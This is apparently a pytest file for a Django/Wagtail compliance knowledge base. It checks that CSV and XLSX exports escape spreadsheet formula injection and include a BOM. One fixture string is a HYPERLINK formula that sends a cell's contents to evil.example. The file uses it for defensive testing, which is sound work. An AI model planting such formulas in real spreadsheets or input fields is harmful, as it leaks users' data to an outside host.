"""#9 items 9 and 18: trace.csv/trace.xlsx and the due-for-review export, opened back as Excel would."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.dates import add_months
from kb.models import ProcedureReview

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"點我")'
SAFE = "'" + EVIL


def csv_rows(response) -> list[list[str]]:
    body = response.getvalue()
    assert body.startswith("\ufeff".encode()), "no BOM: Excel would garble the Chinese"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.getvalue()))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(cells) -> None:
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]


@pytest.fixture
def traced(make_procedure, make_regulation, make_staff, login):
    regulation = make_regulation(procedures=[make_procedure()], ack_due_days=14)
    make_staff("evil", display_name=EVIL)
    return regulation, login(make_staff("co", groups=["Compliance officer"]).user)


def test_trace_csv_has_a_bom_and_the_formula_as_text(traced):
    regulation, client = traced
    rows = csv_rows(client.get(reverse("kb_regulation_trace_download", args=[regulation.pk, "csv"])))
    assert any(SAFE in row for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert any("Asia/Hong_Kong" in cell for cell in rows[1])  # the time column names its zone


def test_trace_xlsx_has_the_formula_as_text(traced):
    regulation, client = traced
    cells = xlsx_cells(client.get(reverse("kb_regulation_trace_download", args=[regulation.pk, "xlsx"])))
    assert [c.data_type for c in cells if c.value == SAFE] == ["s"]
    assert_no_live_formula(cells)


@pytest.fixture
def due(make_procedure, make_staff, login):
    page = make_procedure("SOP-EVIL", title=EVIL, review_interval_months=12)
    ProcedureReview.objects.filter(page_id=page.pk).update(reviewed_on=add_months(timezone.localdate(), -13))
    return login(make_staff("editor", groups=["Content editor"]).user)


def test_due_for_review_csv_has_a_bom_and_the_formula_as_text(due):
    rows = csv_rows(due.get(reverse("kb_review_due"), {"export": "csv"}))
    assert any(SAFE in row and "SOP-EVIL" in row for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_due_for_review_xlsx_has_the_formula_as_text(due):
    cells = xlsx_cells(due.get(reverse("kb_review_due"), {"export": "xlsx"}))
    assert [c.data_type for c in cells if c.value == SAFE] == ["s"]
    assert_no_live_formula(cells)


def test_wagtails_own_reports_export_through_the_same_writer(make_procedure, superuser, login):
    """Wagtail's aging-pages report: a page title that is a formula comes out as text, with a BOM."""
    make_procedure("SOP-EVIL", title=EVIL)
    client = login(superuser)
    rows = csv_rows(client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"}))
    assert any(SAFE in row for row in rows)
    cells = xlsx_cells(client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "xlsx"}))
    assert [c.data_type for c in cells if c.value == SAFE] == ["s"]
    assert_no_live_formula(cells)
